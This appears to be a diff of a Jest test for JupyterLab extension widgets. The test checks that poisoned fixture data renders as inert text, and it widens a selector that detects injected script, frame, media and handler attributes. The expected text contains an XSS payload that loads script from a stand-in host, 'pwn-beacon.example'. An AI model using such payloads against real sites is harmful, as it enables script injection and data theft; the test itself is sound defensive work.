@@ -4,8 +4,10 @@ import { MessageLoop } from '@lumino/messaging';
 import { nullTranslator } from '@jupyterlab/translation';
 
 import { poison } from '../../tests/jest/payloads';
+import { clashing } from '../../tests/ui/gallery/clashing';
 import { FakeNotebooks, fakeDocument, fakeReconst, noDrafts, noOpen } from '../../tests/ui/gallery/fakes';
 import * as fx from '../../tests/ui/gallery/fixtures';
+import { impacts } from '../../tests/ui/gallery/impacts';
 import type { IState } from '../tokens';
 import * as ui from '.';
 
@@ -16,9 +18,16 @@ const states: Record<string, Partial<IState>> = {
   correct: { card: fx.card },
   amend: { card: fx.amendCard },
   impact: { preview: fx.previewing, estimate: fx.estimate },
+  judged: { preview: impacts['impact-judged'] },
+  failed: { preview: impacts['impact-failed'] },
+  clashes: { tab: 'constitution', clashes: clashing.done },
+  'no clashes': { tab: 'constitution', clashes: clashing.failed },
   acceptance: { inForce: { ...fx.inForce, review: fx.review } },
   notice: { notice: { kind: 'problem', text: 'x', remedy: 'x', action: { label: 'x', run: () => undefined } } }
 };
+
+const ran = jest.fn();
+Object.assign(globalThis, { PWN: ran });
 
 const trans = nullTranslator.load('');
 
@@ -31,7 +40,9 @@ it.each(Object.keys(states))('%s', async name => {
   const { reconst } = fakeReconst(state, { travels: poison(fx.manifest) });
   const notebooks = new FakeNotebooks(fakeDocument(poison(fx.metadata), poison(fx.records)));
   const options = { reconst, trans, notebooks, drafts: noDrafts, open: noOpen, id: () => 'm9' };
+  const sentences = new ui.SentencesWidget(options);
   const widgets: Widget[] = [
+    sentences,
     new ui.SidebarWidget(options),
     new ui.CardWidget(options),
     new ui.ImpactWidget(options),
@@ -43,15 +54,18 @@ it.each(Object.keys(states))('%s', async name => {
     new ui.LiveWidget(options)
   ];
   widgets.forEach(widget => Widget.attach(widget, document.body));
+  sentences.open(poison(fx.sentences));
   MessageLoop.flush();
   await frame();
   document.querySelectorAll<HTMLElement>('.jp-reconst summary, .jp-reconst .jp-reconst-name').forEach(e => e.click());
   await frame();
-  expect(document.body.textContent).toContain('<script>window.PWN=1</script>');
+  expect(document.body.textContent).toContain('<SCRIPT/XSS SRC="https://pwn-beacon.example/xss.js"></SCRIPT>');
   const foreign = document.querySelectorAll(
-    '.jp-reconst :is(script, img, iframe, object, embed, link, style, [onerror], [onload], [src], [srcdoc], [href]:not([href^="#"]))'
+    '.jp-reconst :is(script, img, iframe, frame, object, embed, link, style, base, meta, audio, video, image, use, animate, set, foreignObject, template, math, [src], [srcset], [srcdoc], [background], [formaction], [href]:not([href^="#"]), [style*="url"], [data-commandlinker-command])'
   );
   expect(Array.from(foreign, e => e.outerHTML)).toEqual([]);
-  expect((window as { PWN?: number }).PWN).toBeUndefined();
+  const handlers = Array.from(document.querySelectorAll('.jp-reconst *')).flatMap(e => e.getAttributeNames());
+  expect(handlers.filter(name => /^(on|xlink)/.test(name))).toEqual([]);
+  expect(ran).not.toHaveBeenCalled();
   widgets.forEach(widget => widget.dispose());
 });
